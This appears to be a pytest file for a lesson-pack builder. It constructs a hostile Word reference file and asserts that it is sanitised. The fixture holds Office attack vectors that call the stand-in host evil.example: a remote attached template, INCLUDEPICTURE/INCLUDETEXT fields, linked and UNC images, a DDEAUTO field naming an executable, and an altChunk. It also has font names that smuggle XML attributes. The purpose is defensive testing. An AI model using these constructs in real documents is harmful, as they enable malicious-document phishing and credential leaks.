"""A reference .docx is sanitised: nothing external and none of its metadata reaches an output DOCX;
what was dropped is a warning (an error with --strict); hostile text never breaks the DOCX writer."""

from __future__ import annotations

import dataclasses
import io
import re
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import pytest

from builder import TeachpackError, build_pack, load_pack
from builder import model as m
from builder.components.article import Article
from builder.render import get_renderer
from builder.render.docx.writer import read_reference, reference_warnings
from builder.resolve.document import resolve

from .conftest import REPO
from .ooxml import schema_errors

BUILT_IN = REPO / "templates" / "reference.docx"
EVIL = "evil.example"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
EXTERNAL = 'TargetMode="External"'
NS = (f'xmlns:w="{W}" xmlns:r="{R}" xmlns:v="urn:schemas-microsoft-com:vml" '
      'xmlns:o="urn:schemas-microsoft-com:office:office" '
      'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
      'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
      'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"')

Edit = Callable[[bytes], bytes]


def patched(target: Path, edits: dict[str, Edit | bytes], source: Path = BUILT_IN) -> Path:
    """A copy of a real .docx with some parts changed (a function of the old bytes) or added (bytes)."""
    with zipfile.ZipFile(source) as old:
        parts = {name: old.read(name) for name in old.namelist()}
    for name, edit in edits.items():
        parts[name] = edit if isinstance(edit, bytes) else edit(parts.get(name, b""))
    target.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for name, data in parts.items():
            new.writestr(name, data)
    return target


def insert(before: str, text: str) -> Edit:
    """Put `text` in front of the first `before` in a part."""
    def edit(data: bytes) -> bytes:
        assert before.encode() in data, before
        return data.replace(before.encode(), (text + before).encode(), 1)
    return edit


def rels(*rows: str) -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{RELS}">'
            + "".join(rows) + "</Relationships>").encode()


def rel(rid: str, kind: str, target: str, external: bool = True) -> str:
    mode = f" {EXTERNAL}" if external else ""
    return f'<Relationship Id="{rid}" Type="{R}/{kind}" Target="{target}"{mode}/>'


def part(root: str, body: str) -> bytes:
    return f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:{root} {NS}>{body}</w:{root}>'.encode()


def run(text: str) -> str:
    return f"<w:r><w:t>{text}</w:t></w:r>"


def complex_field(instruction: str, result: str) -> str:
    return (f'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">{instruction}'
            f'</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>{run(result)}'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>')


def linked_picture(rid: str) -> str:
    """A picture whose blip is only linked (`r:link`): Word fetches it to draw the header."""
    return ('<w:r><w:drawing><wp:inline><wp:extent cx="914400" cy="914400"/><wp:docPr id="9" name="Linked"/>'
            '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic>'
            '<pic:nvPicPr><pic:cNvPr id="9" name="Linked"/><pic:cNvPicPr/></pic:nvPicPr>'
            f'<pic:blipFill><a:blip r:link="{rid}"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>'
            '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></a:xfrm>'
            '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic>'
            '</wp:inline></w:drawing></w:r>')


HEADER = part("hdr", (
    f'<w:p>{run("District header")}</w:p>'
    f'<w:p><w:fldSimple w:instr=\' INCLUDEPICTURE "http://{EVIL}/simple.png" \\d \'>{run("pic")}</w:fldSimple></w:p>'
    f'<w:p>{complex_field(f" INCLUDETEXT  http://{EVIL}/text.docx ", "included text")}{run("kept")}</w:p>'
    f'<w:p>{linked_picture("rIdLinked")}</w:p>'
    '<w:p><w:r><w:pict><v:shape id="s1" style="width:10pt;height:10pt"><v:imagedata r:id="rIdVml" o:title="x"/>'
    "</v:shape></w:pict></w:r></w:p>"
))
FIRST_HEADER = part("hdr", f'<w:p>{complex_field(f"includepicture http://{EVIL}/cover.png", "")}</w:p>')
FOOTER = part("ftr", f'<w:p><w:hyperlink r:id="rIdHyper">{run("district site")}</w:hyperlink></w:p>')



def document_with_header_and_field(data: bytes) -> bytes:
    """The body gets a DDEAUTO field, the section a default and a first-page header and a footer."""
    dde = complex_field("DDEAUTO c:\\\\x.exe " + EVIL, "")
    data = insert("<w:sectPr", f"<w:p>{dde}</w:p>")(data)
    return insert("<w:pgSz", '<w:headerReference w:type="default" r:id="rIdH1"/>'
                             '<w:headerReference w:type="first" r:id="rIdH2"/>'
                             '<w:footerReference w:type="default" r:id="rIdF1"/>')(data)


CUSTOM_XML = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><b:Sources xmlns:b="http://schemas.'
              b'openxmlformats.org/officeDocument/2006/bibliography" SelectedStyle="/APA.XSL" StyleName="APA"/>')
CUSTOM_XML_PROPS = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><ds:datastoreItem xmlns:ds="http://'
                    b'schemas.openxmlformats.org/officeDocument/2006/customXml" ds:itemID="{EF278816-EC6F-A645-907D-'
                    b'7F25AECB1D4A}"/>')
CUSTOM_PROPERTIES = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Properties xmlns="http://schemas.'
                     b'openxmlformats.org/officeDocument/2006/custom-properties" xmlns:vt="http://schemas.'
                     b'openxmlformats.org/officeDocument/2006/docPropsVTypes"><property fmtid="{D5CDD505-2E9C-101B-'
                     b'9397-08002B2CF9AE}" pid="2" name="Owner"><vt:lpwstr>J. Doe</vt:lpwstr></property></Properties>')


HOSTILE: dict[str, Edit | bytes] = {
    # a remote template, fetched by Word on open
    "word/settings.xml": insert("<w:defaultTabStop", '<w:attachedTemplate r:id="rIdTpl"/>'),
    "word/_rels/settings.xml.rels": rels(rel("rIdTpl", "attachedTemplate", f"http://{EVIL}/district.dotm")),
    # a header and a first-page header with fields and linked pictures, a footer with a hyperlink
    "word/header1.xml": HEADER,
    "word/header2.xml": FIRST_HEADER,
    "word/footer1.xml": FOOTER,
    "word/_rels/header1.xml.rels": rels(rel("rIdLinked", "image", f"http://{EVIL}/logo.png"),
                                        rel("rIdVml", "image", f"file://///{EVIL}/share/crest.png")),
    "word/_rels/footer1.xml.rels": rels(rel("rIdHyper", "hyperlink", f"https://{EVIL}/")),
    "word/document.xml": document_with_header_and_field,
    "word/_rels/document.xml.rels": insert("</Relationships>", (
        rel("rIdH1", "header", "header1.xml", external=False) + rel("rIdH2", "header", "header2.xml", external=False)
        + rel("rIdF1", "footer", "footer1.xml", external=False)
        + rel("rIdFrame", "frame", f"http://{EVIL}/frame.html")
        + rel("rIdItem", "customXml", "../customXml/item1.xml", external=False))),
    "[Content_Types].xml": insert("</Types>", "".join(
        f'<Override PartName="/word/{name}.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        f'wordprocessingml.{kind}+xml"/>' for name, kind in (("header1", "header"), ("header2", "header"),
                                                               ("footer1", "footer")))
        + '<Override PartName="/docProps/custom.xml" '
          'ContentType="application/vnd.openxmlformats-officedocument.custom-properties+xml"/>'
        + '<Override PartName="/customXml/itemProps1.xml" '
          'ContentType="application/vnd.openxmlformats-officedocument.customXmlProperties+xml"/>'),
    # metadata about the district and its staff, a thumbnail, custom properties, custom XML
    "docProps/app.xml": insert("</Properties>", f"<Manager>A. Principal</Manager><Company>Riverside USD</Company>"
                                                f"<HyperlinkBase>http://{EVIL}/</HyperlinkBase>"),
    "docProps/core.xml": insert("<cp:revision>", "<dc:creator>J. Doe</dc:creator><cp:keywords>budget</cp:keywords>"
                                                 "<dc:description>Draft for the board</dc:description>"
                                                 "<cp:lastModifiedBy>J. Doe</cp:lastModifiedBy>"
                                                 "<cp:category>Internal</cp:category>"),
    "docProps/custom.xml": CUSTOM_PROPERTIES,
    "docProps/thumbnail.jpeg": b"\xff\xd8\xff\xe0 a picture of the district's draft",
    "customXml/item1.xml": CUSTOM_XML,
    "customXml/itemProps1.xml": CUSTOM_XML_PROPS,
    "customXml/_rels/item1.xml.rels": rels(rel("rId1", "customXmlProps", "itemProps1.xml", external=False)),
    "_rels/.rels": insert("</Relationships>", rel("rIdCustom", "custom-properties", "docProps/custom.xml", False)
                          + '<Relationship Id="rIdThumb" Type="http://schemas.openxmlformats.org/package/2006/'
                            'relationships/metadata/thumbnail" Target="docProps/thumbnail.jpeg"/>'),
}

SHOWN = "templates/reference.docx"
EXPECTED_WARNINGS = [
    f"{SHOWN}: dropped a link to http://{EVIL}/frame.html (frame); Word would fetch it when the file opens",
    f"{SHOWN}: dropped a link to https://{EVIL}/ (hyperlink); a reader would be sent there",
    f"{SHOWN}: dropped a link to http://{EVIL}/logo.png (image); Word would fetch it when the file opens",
    f"{SHOWN}: dropped a link to file://///{EVIL}/share/crest.png (image); Word would fetch it when the file opens",
    f"{SHOWN}: dropped a link to http://{EVIL}/district.dotm (attachedTemplate); Word would fetch it when the file "
    "opens",
    f"{SHOWN}: dropped its custom properties (docProps/custom.xml); an output DOCX carries none",
    # Word's empty bibliography (customXml/) and the thumbnail go too, without a word: Word writes both
    f"{SHOWN}: dropped a field 'DDEAUTO c:\\\\x.exe {EVIL}' (word/document.xml); Word would ask to start the "
    "program it names when the file opens",
    f"{SHOWN}: dropped a field 'INCLUDEPICTURE \"http://{EVIL}/simple.png\" \\d' (word/header1.xml); Word would "
    "fetch what it names when the file opens",
    f"{SHOWN}: dropped a field 'INCLUDETEXT http://{EVIL}/text.docx' (word/header1.xml); Word would fetch what it "
    "names when the file opens",
    f"{SHOWN}: dropped a field 'includepicture http://{EVIL}/cover.png' (word/header2.xml); Word would fetch what "
    "it names when the file opens",
    f"{SHOWN}: dropped its document properties (keywords 'budget', description 'Draft for the "
    "board', category 'Internal', Manager 'A. Principal', "
    f"HyperlinkBase 'http://{EVIL}/'); each DOCX sets its own",
]


@pytest.fixture
def hostile(make_pack, tmp_path: Path) -> Path:
    """The basic pack in a workspace whose templates/reference.docx is hostile; returns the pack folder."""
    pack = make_pack()
    patched(pack.parent / "templates" / "reference.docx", HOSTILE)
    return pack


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def built(pack: Path, out: Path, **options) -> tuple[list[Path], list[str]]:
    warnings: list[str] = []
    result = build_pack([pack], out=out, formats=["docx"], on_warning=lambda w: warnings.append(w.message), **options)
    return result.written, warnings


def test_nothing_external_reaches_the_output(hostile: Path, tmp_path: Path) -> None:
    written, _ = built(hostile, tmp_path / "out", levels=["high"])
    assert written
    for path in written:
        parts = parts_of(path.read_bytes())
        everything = b"".join(data for name, data in parts.items() if not name.endswith(".odttf"))  # fonts: binary
        assert EVIL.encode() not in everything
        assert EXTERNAL.encode() not in everything
        assert b"INCLUDE" not in everything.upper() and b"DDEAUTO" not in everything
        assert b"attachedTemplate" not in parts["word/settings.xml"]
        header = parts["word/header1.xml"]
        assert b"r:link" not in header and b"kept" in header  # the field is gone, the text after it stays
        assert b"District header" in header  # the reference's own header is the house style: it stays
        check_package(parts)
    sanitised = parts_of(read_reference(hostile.parent / "templates" / "reference.docx"))
    assert b'<w:hyperlink><w:r><w:t>district site' in sanitised["word/footer1.xml"]  # the text stays, not the link
    assert b"<w:drawing" not in sanitised["word/header1.xml"] and b"<w:pict" not in sanitised["word/header1.xml"]
    check_package(sanitised)


def check_package(parts: dict[str, bytes]) -> None:
    """Every relationship points at a part in the zip, and every content-type override names one."""
    for name, data in parts.items():
        if not name.endswith(".rels"):
            continue
        folder = name.rsplit("_rels/", 1)[0]
        for target in re.findall(rb'Target="([^"]+)"', data):
            full = target.decode().lstrip("/") if target.startswith(b"/") else \
                str(Path(folder, target.decode())).replace("\\", "/")
            resolved = str(Path("/", full).resolve()).lstrip("/")
            assert resolved in parts, (name, target)
    for part_name in re.findall(rb'PartName="/([^"]+)"', parts["[Content_Types].xml"]):
        assert part_name.decode() in parts, part_name


def test_metadata_and_extras_are_dropped(hostile: Path, tmp_path: Path) -> None:
    written, _ = built(hostile, tmp_path / "out", levels=["high"])
    data = written[0].read_bytes()
    parts = parts_of(data)
    assert not [n for n in parts if n.startswith(("docProps/thumbnail", "docProps/custom", "customXml/"))]
    assert b"customXml" not in parts["word/_rels/document.xml.rels"]
    assert b"thumbnail" not in parts["_rels/.rels"] and b"custom-properties" not in parts["_rels/.rels"]
    for gone in (b"Riverside", b"Principal", b"Internal", b"budget", b"J. Doe", b"board"):
        assert gone not in parts["docProps/app.xml"] + parts["docProps/core.xml"], gone
    props = docx.Document(io.BytesIO(data)).core_properties
    assert props.title == "The Water Cycle" and props.language == "en" and props.category == ""
    assert props.author == props.last_modified_by == "teachpack"


def test_each_thing_dropped_is_one_warning_per_build(hostile: Path, tmp_path: Path, monkeypatch) -> None:
    monkeypatch.chdir(hostile.parent)
    written, warnings = built(hostile, tmp_path / "out")
    assert len(written) > 1  # several DOCX jobs share the reference: each warning is given once
    assert [w for w in warnings if "reference.docx" in w] == EXPECTED_WARNINGS


def test_strict_refuses_a_hostile_reference_and_writes_nothing(hostile: Path, tmp_path: Path, monkeypatch) -> None:
    monkeypatch.chdir(hostile.parent)
    with pytest.raises(TeachpackError, match=r"warning\(s\) and --strict is set; nothing was written") as caught:
        build_pack([hostile], out=tmp_path / "out", formats=["docx"], strict=True)
    assert f"TP402 {EXPECTED_WARNINGS[0]}" in caught.value.lines()
    assert not (tmp_path / "out").exists()
    result = subprocess.run([sys.executable, "-m", "builder", "build", str(hostile), "--out", str(tmp_path / "out"),
                             "--format", "docx", "--strict"], cwd=hostile.parent, capture_output=True, text=True)
    assert result.returncode == 2, result.stderr
    assert f"{SHOWN}: dropped a link to http://{EVIL}/district.dotm (attachedTemplate)" in result.stderr
    assert "Traceback" not in result.stderr and not (tmp_path / "out").exists()


def test_a_clean_reference_gives_no_warnings(tmp_path: Path) -> None:
    assert reference_warnings(None) == []
    clean = patched(tmp_path / "clean.docx", {})
    assert reference_warnings(clean) == []  # the shipped file carries nothing worth a warning
    assert read_reference(clean)


def test_a_reference_over_the_size_limit_is_refused(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setenv("TEACHPACK_MAX_DOCX_MB", "0.01")
    big = shutil.copy(BUILT_IN, tmp_path / "reference.docx")
    with pytest.raises(TeachpackError) as caught:
        read_reference(Path(big))
    assert str(caught.value) == (f"{big}: is over the 0.01 MB limit for a Word file; make it smaller, or raise "
                                 "TEACHPACK_MAX_DOCX_MB")


def test_reference_without_section_or_header_paragraphs_still_builds(make_pack, tmp_path: Path) -> None:
    strip = patched(tmp_path / "nosect.docx", {
        "word/document.xml": lambda data: re.sub(rb"<w:sectPr.*</w:sectPr>", b"", data),
    })
    empty_header = patched(tmp_path / "emptyheader.docx", {
        "word/header1.xml": part("hdr", "<w:tbl><w:tr><w:tc><w:p/></w:tc></w:tr></w:tbl>"),
        "word/document.xml": insert("<w:pgSz", '<w:headerReference w:type="default" r:id="rIdH1"/>'),
        "word/_rels/document.xml.rels": insert("</Relationships>", rel("rIdH1", "header", "header1.xml", False)),
        "[Content_Types].xml": insert("</Types>", '<Override PartName="/word/header1.xml" ContentType="application/'
                                      'vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/>'),
    })
    pack = load_pack(make_pack())
    for reference in (strip, empty_header):
        document = resolve(pack, pack.levels[-1], "student", look=m.Styling((), reference, pack.theme))
        out = docx.Document(io.BytesIO(get_renderer("docx").render(document)))
        assert "Page" in out.sections[0].footer.paragraphs[0].text


def test_an_imported_chunk_is_dropped(tmp_path: Path) -> None:
    chunk = patched(tmp_path / "chunk.docx", {
        "word/afchunk.htm": f'<html><body><img src="http://{EVIL}/x.png"></body></html>'.encode(),
        "word/document.xml": insert("<w:sectPr", '<w:altChunk r:id="rIdChunk"/>'),
        "word/_rels/document.xml.rels": insert("</Relationships>", rel("rIdChunk", "aFChunk", "afchunk.htm", False)),
    })
    parts = parts_of(read_reference(chunk))
    assert "word/afchunk.htm" not in parts and b"altChunk" not in parts["word/document.xml"]
    assert b"aFChunk" not in parts["word/_rels/document.xml.rels"]
    assert reference_warnings(chunk) == [f"{chunk}: dropped the files it imports when Word opens it (altChunk) "
                                         "(word/afchunk.htm); an output DOCX carries none"]


def test_a_style_of_the_wrong_type_is_one_error_and_nothing_is_written(hostile: Path, tmp_path: Path,
                                                                       monkeypatch) -> None:
    monkeypatch.chdir(hostile.parent)
    patched(hostile.parent / "templates" / "reference.docx", {"word/styles.xml": lambda data: data.replace(
        b'w:type="paragraph" w:styleId="Header"', b'w:type="character" w:styleId="Header"')})
    with pytest.raises(TeachpackError) as caught:
        build_pack([hostile], out=tmp_path / "out", formats=["docx"])
    assert str(caught.value) == (f"{SHOWN}: style 'Header' is a character style, but teachpack needs a paragraph "
                                 "style of that name; change its type or delete it in the reference .docx")
    assert not (tmp_path / "out").exists()


def test_a_reference_without_numbering_still_numbers_lists(make_pack, tmp_path: Path) -> None:
    bare = patched(tmp_path / "bare.docx", {"word/_rels/document.xml.rels": lambda data: re.sub(
        rb'<Relationship Id="[^"]+" Type="[^"]+/numbering" Target="numbering.xml"/>', b"", data)})
    assert b"numbering" not in parts_of(bare.read_bytes())["word/_rels/document.xml.rels"]
    pack = load_pack(make_pack())
    document = resolve(pack, pack.levels[-1], "teacher", look=m.Styling((), bare, pack.theme))
    out = docx.Document(io.BytesIO(get_renderer("docx").render(document)))
    assert out.part.numbering_part.element.findall(f"{{{W}}}num")


# -- hostile text ------------------------------------------------------------------------------

def _document(make_pack, **changes) -> m.Document:
    pack = load_pack(make_pack())
    theme = m.Theme(body_font=changes.pop("body_font", None), heading_font=changes.pop("heading_font", None))
    document = resolve(pack, pack.levels[-1], "teacher", look=m.Styling((), None, theme))
    return dataclasses.replace(document, **changes)


@pytest.mark.parametrize("font", ['Evil" w:ascii="x', "A<b>&amp;", "Sans'\"<>&"])
def test_a_font_name_with_quotes_or_angle_brackets_is_escaped(make_pack, font: str) -> None:
    document = _document(make_pack, body_font=font, heading_font=font)
    out = docx.Document(io.BytesIO(get_renderer("docx").render(document)))
    assert out.styles["Normal"].font.name == font
    assert out.styles["Heading 1"].font.name == font


def test_a_hostile_font_name_does_not_stop_parallel_jobs(make_pack, tmp_path: Path) -> None:
    from builder.release.jobs import Task, run_tasks

    document = _document(make_pack, body_font='Evil"<Font')
    tasks = [Task(document, "docx", tmp_path / f"{i}.docx") for i in range(2)]
    outcomes = []
    run_tasks(tasks, 2, lambda i, outcome: outcomes.append(outcome))
    assert [o.error for o in outcomes] == [None, None]


def test_a_title_over_255_characters_is_cut_in_the_properties_only(make_pack) -> None:
    title = "The Long Title " * 30  # 450 characters
    document = _document(make_pack, title=title, subject="S" * 300)
    out = docx.Document(io.BytesIO(get_renderer("docx").render(document)))
    assert len(out.core_properties.title) == 255 and out.core_properties.title.endswith("\u2026")
    assert out.core_properties.title.startswith("The Long Title The Long")
    assert len(out.core_properties.subject) == 255
    assert any(p.text == title for p in out.paragraphs)  # the cover shows all of it


def test_control_characters_never_break_the_writer(make_pack) -> None:
    document = _document(make_pack, title="Water\x00 Cy\x01cle\x0b\ufffe", subject="Sci\x1fence",
                         subtitle="Where \x08rain goes")
    article = next(c for c in document.components if isinstance(c, Article))
    section = dataclasses.replace(article.sections[0], title="Evapo\x02ration",
                                  blocks=(m.Paragraph((m.Run("Heat\x03 lifts water."),)),))
    components = tuple(dataclasses.replace(c, sections=(section,)) if c is article else c
                       for c in document.components)
    document = dataclasses.replace(document, components=components)
    out = docx.Document(io.BytesIO(get_renderer("docx").render(document)))
    texts = [p.text for p in out.paragraphs]
    assert "Water Cycle" in texts and "Evaporation" in texts and "Heat lifts water." in texts
    assert out.core_properties.title == "Water Cycle" and out.core_properties.subject == "Science"


# -- the output opens and validates --------------------------------------------------------------

def test_the_docx_from_a_hostile_reference_is_schema_valid(hostile: Path, tmp_path: Path) -> None:
    written, _ = built(hostile, tmp_path / "out", levels=["high"], editions=["teacher"])
    assert schema_errors(written[0]) == []
